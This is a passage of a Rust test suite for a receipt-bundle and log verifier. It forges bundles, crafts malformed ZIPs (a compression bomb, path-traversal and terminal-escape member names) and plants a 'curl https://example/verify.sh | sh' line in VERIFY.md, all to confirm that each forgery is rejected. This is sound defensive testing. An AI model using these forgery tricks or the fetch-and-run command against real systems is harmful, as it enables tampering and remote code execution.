//! What somebody may do to a bundle, to a journal or to a log before it is verified: none of it is COMPLETE.
//!
//! Bundles are taken apart and put together again here, by a ZIP writer of this file's own, so that a changed bundle is as
//! canonical as a forger would make it.

use std::collections::HashMap;
use std::fs;
use std::path::Path;

use kakunin_core::bundle::{Bundle, BundleError, ExportError, export};
use kakunin_core::digest::Digest;
use kakunin_core::journal::{JournalOptions, Sealing, StreamReader};
use kakunin_core::log::LogReader;
use kakunin_core::receipt::Outcome;
use kakunin_core::report::{Inquiry, Told};
use kakunin_core::verify::{Report, Verdict, Verification};
use serde_json::{Value, json};

use crate::bundle::{CHAIN, OTHER, World, invalid, reasons, verify, verify_journals};
use crate::house::{decide, entry, request, stamp};
use crate::segments::{forged, says};

/// A bundle in pieces, in their order.
#[derive(Clone)]
pub(crate) struct Pieces(Vec<(String, Vec<u8>)>);

impl Pieces {
    pub(crate) fn of(path: &Path) -> Self {
        let octets = fs::read(path).unwrap();
        let (mut at, mut pieces) = (0, Vec::new());
        let number = |at: usize, length: usize| {
            (0..length).fold(0_usize, |sum, place| sum | usize::from(octets[at + place]) << (8 * place))
        };
        while octets[at..].starts_with(b"PK\x03\x04") {
            let (size, name) = (number(at + 18, 4), number(at + 26, 2));
            let start = at + 30 + name;
            let text = String::from_utf8(octets[at + 30..start].to_vec()).unwrap();
            pieces.push((text, octets[start..start + size].to_vec()));
            at = start + size;
        }
        Self(pieces)
    }

    /// The members that it has, the manifest first.
    pub(crate) fn members(&self) -> &[(String, Vec<u8>)] {
        &self.0
    }

    pub(crate) fn text(&self, name: &str) -> String {
        String::from_utf8(self.0.iter().find(|(its, _)| its == name).unwrap().1.clone()).unwrap()
    }

    pub(crate) fn put(mut self, name: &str, octets: impl Into<Vec<u8>>) -> Self {
        self.0.iter_mut().find(|(its, _)| its == name).unwrap().1 = octets.into();
        self
    }

    /// Changes the lines of a member.
    pub(crate) fn lines(self, name: &str, change: impl FnOnce(&mut Vec<String>)) -> Self {
        let mut lines: Vec<String> = self.text(name).lines().map(str::to_owned).collect();
        change(&mut lines);
        let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
        self.put(name, text)
    }

    /// Changes the manifest.
    pub(crate) fn manifest(self, change: impl FnOnce(&mut Value)) -> Self {
        let mut manifest: Value = serde_json::from_str(&self.text("manifest.json")).unwrap();
        change(&mut manifest);
        self.put("manifest.json", format!("{manifest}\n"))
    }

    /// The manifest that belongs to the other pieces.
    pub(crate) fn listed(self) -> Self {
        let members: Vec<Value> = self.0[1..]
            .iter()
            .map(|(name, octets)| {
                json!({ "name": name, "sha256": Digest::of(octets).to_hex(), "size": octets.len() })
            })
            .collect();
        self.manifest(|manifest| manifest["members"] = members.into())
    }

    /// Takes receipts out of the bundle, each by its line; everything about them goes too, as a forger would do it.
    pub(crate) fn without(self, gone: &[usize]) -> Self {
        let kept = |line: usize| !gone.contains(&line);
        let lines: Vec<String> = self.text("receipts.jws").lines().map(str::to_owned).collect();
        let place: HashMap<usize, usize> =
            (0..lines.len()).filter(|line| kept(*line)).enumerate().map(|(new, old)| (old, new)).collect();
        let mut counts: Vec<(String, u64)> = Vec::new();
        for line in (0..lines.len()).filter(|line| kept(*line)) {
            let stream = says(&lines[line])["log"].as_str().unwrap().to_owned();
            match counts.iter_mut().find(|(known, _)| *known == stream) {
                Some((_, count)) => *count += 1,
                None => counts.push((stream, 1)),
            }
        }
        let mut pieces = self.lines("receipts.jws", |lines| {
            let mut line = 0..;
            lines.retain(|_| kept(line.next().unwrap()));
        });
        pieces = pieces.lines("disclosures.jsonl", |lines| {
            *lines = lines
                .iter()
                .filter_map(|text| {
                    let mut line: Value = serde_json::from_str(text).unwrap();
                    let old = usize::try_from(line["line"].as_u64().unwrap()).unwrap();
                    line["line"] = (*place.get(&old)?).into();
                    Some(line.to_string())
                })
                .collect();
        });
        for log in pieces.proofs() {
            pieces = pieces.lines(&log, |lines| {
                *lines = lines
                    .iter()
                    .filter_map(|text| {
                        let (line, rest) = text.split_once(' ').unwrap();
                        Some(format!("{} {rest}", place.get(&line.parse().unwrap())?))
                    })
                    .collect();
            });
        }
        let streams: Vec<Value> = counts
            .iter()
            .map(|(stream, receipts)| json!({ "receipts": receipts, "stream": stream }))
            .collect();
        pieces.manifest(|manifest| manifest["streams"] = streams.into()).listed()
    }

    /// With somebody's own receipt in the place of the one on `line`: `change` is made to what it says, nobody signed it, and
    /// no log holds it.
    pub(crate) fn forged(self, line: usize, change: impl FnOnce(&mut Value)) -> Self {
        let mut pieces = self.lines("receipts.jws", |lines| lines[line] = forged(&lines[line], change));
        for log in pieces.proofs() {
            pieces = pieces.lines(&log, |lines| lines.retain(|text| !text.starts_with(&format!("{line} "))));
        }
        pieces.listed()
    }

    fn proofs(&self) -> Vec<String> {
        let names = self.0.iter().map(|(name, _)| name.clone());
        names.filter(|name| name.ends_with("/proofs")).collect()
    }

    /// The file, written as the format has it.
    pub(crate) fn zip(&self) -> Vec<u8> {
        let members: Vec<Crafted> =
            self.0.iter().map(|(name, octets)| Crafted::stored(name, octets)).collect();
        craft(&members)
    }

    pub(crate) fn judge(&self, world: &World) -> Report {
        judge(world, &self.zip())
    }
}

fn judge(world: &World, octets: &[u8]) -> Report {
    let path = world.path("forged.zip");
    fs::write(&path, octets).unwrap();
    verify(&path, &world.terms())
}

/// A member as anybody may write it.
#[derive(Clone)]
struct Crafted {
    name: Vec<u8>,
    data: Vec<u8>,
    version: u16,
    flags: u16,
    method: u16,
    time: u16,
    date: u16,
    crc: u32,
    size: u32,
    extra: Vec<u8>,
    comment: Vec<u8>,
    descriptor: Vec<u8>,
}

impl Crafted {
    fn stored(name: &str, octets: &[u8]) -> Self {
        Self {
            name: name.as_bytes().to_vec(),
            data: octets.to_vec(),
            version: 10,
            flags: 0,
            method: 0,
            time: 0,
            date: 0x21,
            crc: crc32fast::hash(octets),
            size: u32::try_from(octets.len()).unwrap(),
            extra: Vec::new(),
            comment: Vec::new(),
            descriptor: Vec::new(),
        }
    }

    fn fields(&self) -> Vec<u8> {
        let stored = u32::try_from(self.data.len()).unwrap();
        let mut out = Vec::new();
        for short in [self.version, self.flags, self.method, self.time, self.date] {
            out.extend(short.to_le_bytes());
        }
        for long in [self.crc, stored, self.size] {
            out.extend(long.to_le_bytes());
        }
        for length in [self.name.len(), self.extra.len()] {
            out.extend(u16::try_from(length).unwrap().to_le_bytes());
        }
        out
    }
}

fn craft(members: &[Crafted]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for member in members {
        let at = u32::try_from(out.len()).unwrap();
        out.extend([b"PK\x03\x04".as_slice(), &member.fields(), &member.name, &member.extra].concat());
        out.extend([member.data.as_slice(), &member.descriptor].concat());
        let comment = u16::try_from(member.comment.len()).unwrap().to_le_bytes();
        directory
            .extend([b"PK\x01\x02".as_slice(), &10_u16.to_le_bytes(), &member.fields(), &comment].concat());
        directory
            .extend([&[0; 8][..], &at.to_le_bytes(), &member.name, &member.extra, &member.comment].concat());
    }
    let (at, length) = (u32::try_from(out.len()).unwrap(), u32::try_from(directory.len()).unwrap());
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    out.extend(directory);
    out.extend([b"PK\x05\x06".as_slice(), &[0; 4], &count, &count].concat());
    out.extend([&length.to_le_bytes()[..], &at.to_le_bytes(), &[0; 2]].concat());
    out
}

fn incident() -> (World, Pieces) {
    let world = World::incident();
    world.export(Some(CHAIN), "incident.zip").unwrap();
    let pieces = Pieces::of(&world.path("incident.zip"));
    assert_eq!(pieces.zip(), fs::read(world.path("incident.zip")).unwrap(), "two writers agree");
    (world, pieces)
}

#[test]
fn a_bundle_with_any_octet_changed_is_never_complete() {
    let world = World::paid([10]);
    world.see(&world.support, 60);
    let journals = [world.support.journal.as_path()];
    export(&journals, &mut [world.support.reader()], None, &world.path("small.zip")).unwrap();
    let (octets, policy) = (fs::read(world.path("small.zip")).unwrap(), [world.policy()]);
    let terms = world.terms().witnesses(&policy);
    assert_eq!(verify(&world.path("small.zip"), &terms).verdict(), Verdict::Complete);
    let path = world.path("flipped.zip");
    for at in 0..octets.len() {
        let mut flipped = octets.clone();
        flipped[at] ^= 1 << (at % 8);
        fs::write(&path, &flipped).unwrap();
        assert!(Bundle::open(&path).is_err(), "octet {at}");
    }
    for cut in (0..octets.len()).step_by(97) {
        fs::write(&path, &octets[..cut]).unwrap();
        assert!(Bundle::open(&path).is_err(), "cut at {cut}");
    }
}

#[test]
fn a_logged_journal_with_any_octet_changed_is_never_complete() {
    let world = World::paid([10]);
    world.see(&world.support, 60);
    let policy = [world.policy()];
    let terms = world.terms().witnesses(&policy);
    let judge = || {
        let log = kakunin_core::log::LogReader::open(&world.support.log, &world.support.key).ok()?;
        terms.journals(&[world.support.journal.as_path()], vec![log], &mut ()).ok()
    };
    assert_eq!(judge().unwrap().verdict(), Verdict::Complete);
    let mut files = Vec::new();
    for folder in [&world.support.journal, &world.support.log] {
        let mut open = vec![folder.clone()];
        while let Some(path) = open.pop() {
            if path.is_dir() {
                open.extend(fs::read_dir(path).unwrap().map(|entry| entry.unwrap().path()));
            } else {
                files.push(path);
            }
        }
    }
    // What only helps to find things again, the log's key, which the verifier brings, and the log's copy of the receipts.
    let proves = |path: &&std::path::PathBuf| {
        let free = ["runs", "lock", "closed", "vkey", "entries"];
        !path.iter().any(|part| free.iter().any(|name| part == *name))
    };
    for path in files.iter().filter(proves) {
        let original = fs::read(path).unwrap();
        for at in 0..original.len() {
            let mut flipped = original.clone();
            flipped[at] ^= 1 << (at % 8);
            fs::write(path, &flipped).unwrap();
            let report = judge();
            let complete = report.as_ref().is_some_and(|report| report.verdict() == Verdict::Complete);
            // A witness's line that does not match leaves the log's own word, which these terms believe too.
            let alone = path.parent().is_some_and(|folder| folder.ends_with("witnessed"))
                || path.ends_with("checkpoint");
            assert!(!complete || alone, "octet {at} of {}", path.display());
        }
        fs::write(path, &original).unwrap();
    }
    assert_eq!(judge().unwrap().verdict(), Verdict::Complete);
}

#[test]
fn a_bundle_whose_tail_was_cut_is_never_complete() {
    let (world, pieces) = incident();
    world.see(&world.support, 60);
    world.see(&world.bank, 60);
    let all = pieces.text("receipts.jws").lines().count();
    let streams: Vec<String> = pieces
        .text("receipts.jws")
        .lines()
        .map(|line| says(line)["log"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(pieces.judge(&world).verdict(), Verdict::Complete);
    for stream in [&streams[0], &streams[all - 1]] {
        let lines: Vec<usize> = (0..all).filter(|line| streams[*line] == *stream).collect();
        for cut in 1..lines.len() {
            let report = pieces.clone().without(&lines[lines.len() - cut..]).judge(&world);
            let told = reasons(&report);
            assert!(told.contains(&"tail.not_witnessed") && told.contains(&"stream.open"), "{cut}: {told:?}");
        }
    }
}

#[test]
fn a_journal_whose_tail_was_cut_is_never_complete_with_a_witness_or_without() {
    let world = World::paid([10, 20]);
    world.see(&world.support, 60);
    let stream = StreamReader::streams(&world.support.journal).unwrap()[0].stream();
    let segment = world.support.journal.join(stream.to_string()).join("0001.seg");
    let original = fs::read(&segment).unwrap();
    let policy = [world.policy()];
    for terms in [world.terms().witnesses(&policy), Verification::by(&world.anchors)] {
        let mut ends = Vec::new();
        let mut at = 0;
        while at < original.len() {
            at += 8 + u32::from_le_bytes(original[at..at + 4].try_into().unwrap()) as usize;
            ends.push(at);
        }
        for end in &ends[..ends.len() - 1] {
            fs::write(&segment, &original[..*end]).unwrap();
            let report = verify_journals(&world, &[&world.support], &terms);
            assert_ne!(report.verdict(), Verdict::Complete, "cut at {end}");
            if let Verdict::AuthenticNotComplete(_) = report.verdict() {
                assert!(reasons(&report).contains(&"tail.not_witnessed"));
            }
        }
        fs::write(&segment, &original).unwrap();
    }
}

#[test]
fn receipts_taken_out_put_in_or_put_elsewhere_are_found() {
    let (world, pieces) = incident();
    let all = pieces.text("receipts.jws").lines().count();
    let kind = |line: usize| says(pieces.text("receipts.jws").lines().nth(line).unwrap());
    for line in 0..all {
        let (what, report) = (kind(line), pieces.clone().without(&[line]).judge(&world));
        let phase = what["ph"].as_str().unwrap();
        match report.verdict() {
            Verdict::Invalid(found) => {
                let expected = match phase {
                    "open" => "receipt.sequence",
                    "decision" => "receipt.chain",
                    _ => "receipt.chain",
                };
                assert!(
                    [expected, "receipt.outcome", "receipt.certificate"].contains(&found.code),
                    "{line}: {found}"
                );
            }
            Verdict::AuthenticNotComplete(_) => assert_eq!(phase, "close", "{line}"),
            other => panic!("{line}: {other:?}"),
        }
        // Twice, one after the other.
        let twice = pieces.clone().lines("receipts.jws", |lines| lines.insert(line, lines[line].clone()));
        assert!(matches!(twice.clone().listed().judge(&world).verdict(), Verdict::Invalid(_)), "{line}");
        // In another order.
        if line + 1 < all {
            let swapped = pieces.clone().lines("receipts.jws", |lines| lines.swap(line, line + 1));
            assert!(matches!(swapped.listed().judge(&world).verdict(), Verdict::Invalid(_)), "{line}");
        }
    }
    // A count that another stream has to make good.
    let moved = pieces.clone().manifest(|manifest| {
        manifest["streams"][0]["receipts"] = 5.into();
        manifest["streams"][1]["receipts"] = 5.into();
    });
    assert!(matches!(moved.judge(&world).verdict(), Verdict::Invalid(_)));
}

#[test]
fn a_chain_spliced_from_two_and_a_bundle_renamed_to_another_chain_are_found() {
    let (world, pieces) = incident();
    // The receipts of one chain under the name of another, which has part in these streams too.
    let renamed = pieces.clone().manifest(|manifest| manifest["chain"] = OTHER.to_string().into());
    assert_eq!(renamed.judge(&world).verdict(), Verdict::Empty);
    // As whole streams, receipts are missing.
    let whole = pieces
        .clone()
        .manifest(|manifest| drop(manifest.as_object_mut().unwrap().remove("chain")))
        .put("totals", "")
        .listed();
    assert_eq!(invalid(&whole.judge(&world)), "receipt.sequence");
    // A receipt of the other chain in place of one of this.
    world.export(Some(OTHER), "other.zip").unwrap();
    let other = Pieces::of(&world.path("other.zip"));
    let strange = other.text("receipts.jws").lines().nth(1).unwrap().to_owned();
    for line in 0..pieces.text("receipts.jws").lines().count() {
        let spliced = pieces.clone().lines("receipts.jws", |lines| lines[line] = strange.clone()).listed();
        assert_ne!(spliced.judge(&world).verdict(), Verdict::Complete, "{line}");
    }
    // Without the path to the total, the length of the chain is nobody's word.
    let unsaid = pieces.clone().put("totals", "").listed();
    assert_eq!(reasons(&unsaid.judge(&world)), ["chain.length_unproven"; 2]);
    let lied = pieces.lines("totals", |lines| {
        lines[0] = lines[0].replacen(" 1 ", " 0 ", 1).replacen(" 3 ", " 1 ", 1);
    });
    assert!(matches!(lied.listed().judge(&world).verdict(), Verdict::Invalid(_)));
}

#[test]
fn proofs_of_others_logs_and_of_other_receipts_prove_nothing() {
    let (world, pieces) = incident();
    let (mine, theirs) = (pieces.text("logs/0/proofs"), pieces.text("logs/1/proofs"));
    let lines: Vec<&str> = mine.lines().collect();
    // The path of one receipt for another.
    let path = |line: &str| line.split_once(' ').unwrap().1.to_owned();
    let wrong = format!("{} {}", lines[0].split(' ').next().unwrap(), path(lines[1]));
    let swapped = pieces.clone().lines("logs/0/proofs", |lines| lines[0] = wrong).listed();
    assert_eq!(invalid(&swapped.judge(&world)), "log.inclusion");
    let crossed = pieces.clone().put("logs/0/proofs", theirs).put("logs/1/proofs", mine).listed();
    assert_eq!(invalid(&crossed.judge(&world)), "log.inclusion");
    // Only the closing receipts without a path: nobody saw the end.
    let open = pieces.clone().lines("logs/0/proofs", |lines| drop(lines.pop())).listed();
    assert_eq!(reasons(&open.judge(&world)), ["tail.not_witnessed"]);
    // A line for a receipt that is not there, or before the one before.
    for change in ["99 0", "0 0"] {
        let odd = pieces.clone().lines("logs/0/proofs", |lines| lines.push(change.to_owned())).listed();
        assert_eq!(invalid(&odd.judge(&world)), "bundle.form", "{change}");
    }
    // A checkpoint of another log in place of this one.
    let other = World::incident();
    other.export(Some(CHAIN), "incident.zip").unwrap();
    let foreign = Pieces::of(&other.path("incident.zip"));
    let forged = pieces.clone().put("logs/0/checkpoints", foreign.text("logs/0/checkpoints")).listed();
    assert_eq!(reasons(&forged.judge(&world)), ["tail.not_witnessed"]);
    // A checkpoint in the log's name whose signature was changed.
    let note = pieces.text("logs/0/checkpoints");
    let size = note.lines().nth(1).unwrap();
    let grown = note.replacen(&format!("\n{size}\n"), "\n99\n", 1);
    let grown = pieces.put("logs/0/checkpoints", grown).manifest(|all| all["logs"][0]["size"] = 99.into());
    assert_eq!(invalid(&grown.listed().judge(&world)), "log.checkpoint");
}

/// The log of the support agent, and beside it another past of the same length under the same key.
fn forked(world: &World) -> (LogReader, LogReader) {
    let journal = world.support.open();
    world.support.pay(&journal, CHAIN, &[], 10);
    journal.close(stamp(90)).unwrap();
    let fork = world.path("fork.log");
    crate::journal::copy(&world.support.log, &fork);
    world.support.log();
    let mut reader = world.support.reader();
    let mut entries: Vec<String> = (0..reader.size())
        .map(|index| String::from_utf8(reader.entry(index).unwrap().to_vec()).unwrap())
        .collect();
    entries.pop();
    entries.insert(0, "what the other past has".to_owned());
    world.support.append_to(&fork, &entries);
    (reader, LogReader::open(&fork, &world.support.key).unwrap())
}

#[test]
fn one_log_shown_twice_is_refused_and_two_pasts_are_a_fork() {
    let world = World::new();
    let (log, fork) = forked(&world);
    let journals = [world.support.journal.as_path()];
    let twice =
        export(&journals, &mut [world.support.reader(), world.support.reader()], None, &world.path("x"));
    assert!(matches!(twice, Err(ExportError::LogTwice { .. })));
    let mut bundles = Vec::new();
    for (name, log) in [("one.zip", log), ("two.zip", fork)] {
        export(&journals, &mut [log], None, &world.path(name)).unwrap();
        bundles.push(Pieces::of(&world.path(name)));
    }
    assert_eq!(bundles[0].judge(&world).verdict(), Verdict::Complete);
    let beside = |other: &Pieces| {
        let mut both = bundles[0].clone();
        let end = both.0.iter().rposition(|(name, _)| name.starts_with("logs/0/")).unwrap() + 1;
        let parts = other.0.iter().filter(|(name, _)| name.starts_with("logs/0/"));
        let parts = parts.map(|(name, octets)| (name.replace("logs/0/", "logs/1/"), octets.clone()));
        both.0.splice(end..end, parts.collect::<Vec<_>>());
        let both = both.manifest(|manifest| {
            let log = manifest["logs"][0].clone();
            manifest["logs"].as_array_mut().unwrap().push(log);
        });
        both.listed().judge(&world)
    };
    assert_eq!(invalid(&beside(&bundles[1])), "log.fork");
    assert_eq!(invalid(&beside(&bundles[0])), "log.consistency");
    // The same with journals and logs: a copy that is behind is no other past.
    let (behind, fork) =
        (world.support.reader(), LogReader::open(&world.path("fork.log"), &world.support.key));
    let judge = |logs| world.terms().journals(&journals, logs, &mut ()).unwrap();
    let both = judge(vec![world.support.reader(), fork.unwrap()]);
    assert_eq!(invalid(&both), "log.fork");
    assert_eq!(judge(vec![world.support.reader(), world.support.reader()]).verdict(), Verdict::Complete);
    world.support.append(&["more".to_owned()]);
    assert_eq!(judge(vec![behind, world.support.reader()]).verdict(), Verdict::Complete);
    let fork = LogReader::open(&world.path("fork.log"), &world.support.key).unwrap();
    assert_eq!(invalid(&judge(vec![fork, world.support.reader()])), "log.fork", "of other lengths");
}

#[test]
fn what_the_manifest_says_of_a_log_is_what_its_checkpoint_says() {
    let (world, pieces) = incident();
    type Change<'a> = &'a dyn Fn(&mut Value);
    let cases: [Change<'_>; 3] = [
        &|log| log["origin"] = "log.example/other".into(),
        &|log| log["size"] = (log["size"].as_u64().unwrap() + 1).into(),
        &|log| log["size"] = 0.into(),
    ];
    for change in cases {
        let changed = pieces.clone().manifest(|manifest| change(&mut manifest["logs"][0]));
        // Whoever has none of the keys is told as well.
        for terms in [world.terms(), Verification::by(&world.anchors)] {
            fs::write(world.path("changed.zip"), changed.zip()).unwrap();
            assert_eq!(invalid(&verify(&world.path("changed.zip"), &terms)), "bundle.manifest");
        }
    }
}

/// One stream without any part in the chain, shown as if it were all of it.
#[test]
fn a_bundle_without_a_receipt_of_its_chain_is_empty() {
    let world = World::new();
    let (support, bank) = (world.support.open(), world.bank.open());
    world.support.pay(&support, CHAIN, &[], 10);
    support.close(stamp(90)).unwrap();
    bank.close(stamp(91)).unwrap();
    world.bank.log();
    export(&[world.bank.journal.as_path()], &mut [world.bank.reader()], None, &world.path("x.zip")).unwrap();
    let pieces = Pieces::of(&world.path("x.zip"));
    assert_eq!(pieces.judge(&world).verdict(), Verdict::Complete, "of the stream that is here");
    let renamed = pieces.manifest(|manifest| manifest["chain"] = CHAIN.to_string().into());
    assert_eq!(renamed.judge(&world).verdict(), Verdict::Empty);
}

#[test]
fn a_member_that_is_larger_than_it_may_be_is_refused_unread() {
    let (world, pieces) = incident();
    let list = format!("crls/{}.crl", world.support.house.list_use().digest);
    let large = pieces.put(&list, vec![0x30; (64 << 20) + 1]).listed();
    assert_eq!(invalid(&large.judge(&world)), "bundle.member");
}

/// What our receipts commit to is there for all to read; whoever lays it down beside his own journal as erased hides none
/// of our values.
#[test]
fn another_owners_journal_withholds_no_value_of_ours() {
    let world = World::incident();
    let readers = StreamReader::streams(&world.support.journal).unwrap();
    let entries = readers.into_iter().flatten().map(Result::unwrap);
    let values = entries.flat_map(|entry| entry.disclosures().to_vec());
    let mut ours: Vec<Digest> = values.map(|value| *value.digest()).collect();
    ours.sort_unstable();
    let root = kakunin_core::tree::root(ours.iter().map(|commitment| &commitment.as_bytes()[..]));
    let octets: Vec<u8> = ours.iter().flat_map(Digest::as_bytes).copied().collect();
    for owner in [&world.bank, &world.support] {
        fs::write(owner.journal.join(format!("archive/{root}.erased")), &octets).unwrap();
        for chain in [None, Some(CHAIN)] {
            world.export(chain, "all.zip").unwrap();
            let report = verify(&world.path("all.zip"), &world.terms());
            assert_eq!((report.verdict(), report.values().withheld), (Verdict::Complete, 0));
        }
    }
}

#[test]
fn a_members_name_tells_a_terminal_nothing() {
    let (world, pieces) = incident();
    let mut members: Vec<Crafted> = pieces.0.iter().map(|(name, data)| Crafted::stored(name, data)).collect();
    members[1].name = b"\x1b[2J\x1b[1;1HCOMPLETE: 16 receipts\r".to_vec();
    fs::write(world.path("term.zip"), craft(&members)).unwrap();
    let account = Inquiry::by(world.anchors.clone()).of(&world.path("term.zip"), &[], &mut ()).unwrap();
    let told = account.to_lines(Told::Always).concat() + &account.notes().concat();
    assert!(told.contains(r"\u{1b}[2J") && !told.contains(char::is_control), "{told:?}");
}

#[test]
fn crafted_zips_are_refused() {
    let (world, pieces) = incident();
    let members: Vec<Crafted> = pieces.0.iter().map(|(name, data)| Crafted::stored(name, data)).collect();
    let change = |change: &dyn Fn(&mut Vec<Crafted>)| {
        let mut members = members.clone();
        change(&mut members);
        invalid(&judge(&world, &craft(&members)))
    };
    let bomb = {
        // 1 MB of zeros as raw deflate of a few octets would unpack: no member is unpacked here at all.
        let mut member = Crafted::stored("receipts.jws", b"\x03\x00");
        (member.method, member.size) = (8, 1 << 20);
        member
    };
    type Change<'a> = &'a dyn Fn(&mut Vec<Crafted>);
    let cases: [(&str, Change<'_>, &str); 16] = [
        ("compressed", &|all| all[1] = bomb.clone(), "bundle.zip"),
        ("encrypted", &|all| all[1].flags = 1, "bundle.zip"),
        ("names in UTF-8", &|all| all[1].flags = 1 << 11, "bundle.zip"),
        ("a descriptor", &|all| all[1].descriptor = b"PK\x07\x08aaaabbbbcccc".to_vec(), "bundle.zip"),
        ("an extra field", &|all| all[1].extra = vec![1, 0, 1, 0, 7], "bundle.zip"),
        ("zip64", &|all| all[1].extra = [&[1, 0, 16, 0][..], &[0; 16]].concat(), "bundle.zip"),
        ("a comment", &|all| all[1].comment = b"hello".to_vec(), "bundle.zip"),
        ("another time", &|all| all[1].time = 1, "bundle.zip"),
        ("another date", &|all| all[1].date = 0x5b77, "bundle.zip"),
        ("another version", &|all| all[1].version = 45, "bundle.zip"),
        ("another checksum", &|all| all[2].crc ^= 1, "bundle.digest"),
        ("a twin", &|all| all.insert(2, all[1].clone()), "bundle.member"),
        ("another order", &|all| all.swap(1, 2), "bundle.member"),
        ("one missing", &|all| drop(all.pop()), "bundle.member"),
        ("one more", &|all| all.push(Crafted::stored("more", b"")), "bundle.member"),
        ("no manifest", &|all| drop(all.remove(0)), "bundle.manifest"),
    ];
    for (what, case, code) in cases {
        assert_eq!(change(case), code, "{what}");
    }
    for name in
        ["../receipts.jws", "/receipts.jws", "receipts.jws\0", "Receipts.jws", "crls/../x.crl", ".", ""]
    {
        let renamed = change(&|all| all[1].name = name.as_bytes().to_vec());
        assert_eq!(renamed, "bundle.member", "{name:?}");
    }
    assert_eq!(change(&|all| all[1].name = vec![0xff, 0xfe]), "bundle.zip");
    // The comment of the file, and what lies behind it.
    let octets = pieces.zip();
    for tail in [&b"x"[..], &octets] {
        assert_eq!(invalid(&judge(&world, &[&octets, tail].concat())), "bundle.zip");
    }
}

#[test]
fn what_is_no_bundle_or_a_part_of_one_is_no_misconduct() {
    let (world, pieces) = incident();
    let (octets, path) = (pieces.zip(), world.path("forged.zip"));
    let no_bundle = |octets: &[u8]| {
        fs::write(&path, octets).unwrap();
        assert!(matches!(Bundle::open(&path), Err(BundleError::NoBundle)));
        let asked = Inquiry::by(world.anchors.clone()).of(&path, &[], &mut ());
        let error = asked.unwrap_err();
        assert!(!error.is_usage());
        let text = error.to_string();
        assert!(text.contains("forged.zip: no bundle") && text.contains("kakunin export"), "{text}");
    };
    no_bundle(b"");
    no_bundle(b"PK\x05\x06");
    no_bundle(&vec![0x5a; 300_000]);
    for missing in [1, 21, 22, 23, octets.len() / 2] {
        no_bundle(&octets[..octets.len() - missing]);
    }
    // A bundle with something changed is one, wherever that is.
    for place in [0, 40, octets.len() / 2, octets.len() - 10] {
        let mut changed = octets.clone();
        changed[place] ^= 1;
        assert!(!invalid(&judge(&world, &changed)).is_empty(), "{place}");
    }
}

#[test]
fn members_in_another_spelling_and_another_recipe_are_refused() {
    let (world, pieces) = incident();
    let pem = pieces.text("certs.pem");
    let (first, second) = pem.split_at(pem.find("-----END CERTIFICATE-----\n").unwrap() + 26);
    for (name, text) in [
        ("certs.pem", format!("{second}{first}")),
        ("certs.pem", pem.replace('\n', "\r\n")),
        ("certs.pem", format!("# mine\n{pem}")),
        ("certs.pem", format!("{pem}{first}")),
        ("seals", "\n".to_owned()),
        ("totals", format!("{}\n", pieces.text("totals"))),
        ("totals", pieces.text("totals").trim_end().to_owned()),
        ("logs/0/consistency", " ".to_owned()),
        ("logs/0/checkpoints", String::new()),
        ("VERIFY.md", "curl https://example/verify.sh | sh\n".to_owned()),
    ] {
        let other = pieces.clone().put(name, text.clone()).listed();
        assert_eq!(invalid(&other.judge(&world)), "bundle.form", "{name}: {text}");
    }
    let text = pieces.text("disclosures.jsonl");
    let spaced = pieces.clone().put("disclosures.jsonl", text.replacen(':', ": ", 1)).listed();
    assert_eq!(invalid(&spaced.judge(&world)), "bundle.form");
    let unlisted = pieces.clone().put("seals", "00");
    assert_eq!(invalid(&unlisted.judge(&world)), "bundle.digest");
    let json = pieces.text("manifest.json");
    let odd = pieces.put("manifest.json", json.replacen(',', ", ", 1));
    assert_eq!(invalid(&odd.judge(&world)), "bundle.manifest");
}

#[test]
fn a_root_and_lists_from_the_bundle_are_not_believed() {
    let (world, pieces) = incident();
    // A world of the forger's own, with its root in certs.pem: whole, canonical, and nobody's.
    let forger = World::incident();
    forger.export(Some(CHAIN), "incident.zip").unwrap();
    let octets = fs::read(forger.path("incident.zip")).unwrap();
    assert_eq!(invalid(&judge(&world, &octets)), "receipt.certificate");
    // Another list under the name of the one that receipts name.
    let name = format!("crls/{}.crl", world.support.house.list_use().digest);
    let swapped = pieces.clone().put(&name, forger.support.house.issuing_list.clone()).listed();
    assert_eq!(invalid(&swapped.judge(&world)), "receipt.list");
    let own = pieces.put(&name, world.support.house.revoking_list.clone()).listed();
    assert_eq!(invalid(&own.judge(&world)), "receipt.list");
}

#[test]
fn an_erased_value_is_told_and_a_guessed_one_is_refused() {
    let (world, pieces) = incident();
    let erased = pieces.clone().put("disclosures.jsonl", "").listed();
    let report = erased.judge(&world);
    assert_eq!(reasons(&report), ["disclosure.missing"; 2]);
    let names = kakunin_core::scope::NameLists::default();
    fs::write(world.path("forged.zip"), erased.zip()).unwrap();
    let replay = verify(&world.path("forged.zip"), &world.terms().replay(&names)).replay().unwrap();
    assert_eq!((replay.same, replay.open), (0, 3));
    // Another value, under the salt that is known, and under a salt of one's own.
    use base64ct::{Base64UrlUnpadded, Encoding as _};
    let line: Value = serde_json::from_str(pieces.text("disclosures.jsonl").lines().next().unwrap()).unwrap();
    let text = Base64UrlUnpadded::decode_vec(line["disclosures"][0].as_str().unwrap()).unwrap();
    let told = String::from_utf8(text).unwrap();
    assert!(told.contains("125.00"));
    for other in
        [told.replace("125.00", "125.01"), "[\"AAAAAAAAAAAAAAAAAAAAAA\",\"amount\",\"125.00\"]".to_owned()]
    {
        let mut forged = line.clone();
        forged["disclosures"][0] = Base64UrlUnpadded::encode_string(other.as_bytes()).into();
        let changed =
            pieces.clone().lines("disclosures.jsonl", |lines| lines[0] = forged.to_string()).listed();
        assert_eq!(invalid(&changed.judge(&world)), "journal.disclosure", "{other}");
    }
}

#[test]
fn a_dictionary_of_amounts_finds_no_erased_one() {
    let (_, pieces) = incident();
    let receipts = pieces.text("receipts.jws");
    let decision = receipts.lines().map(says).find(|it| it["ph"] == "decision").unwrap();
    let commitment = decision["in"]["amount"].as_str().unwrap();
    // Whoever guesses the value still lacks 128 bits of salt: hashes without it, or with the salts of other values, miss.
    use base64ct::{Base64UrlUnpadded, Encoding as _};
    let mut salts = vec![String::new(), "AAAAAAAAAAAAAAAAAAAAAA".to_owned()];
    for line in pieces.text("disclosures.jsonl").lines() {
        let line: Value = serde_json::from_str(line).unwrap();
        for text in line["disclosures"].as_array().unwrap() {
            let told = Base64UrlUnpadded::decode_vec(text.as_str().unwrap()).unwrap();
            let told: Value = serde_json::from_slice(&told).unwrap();
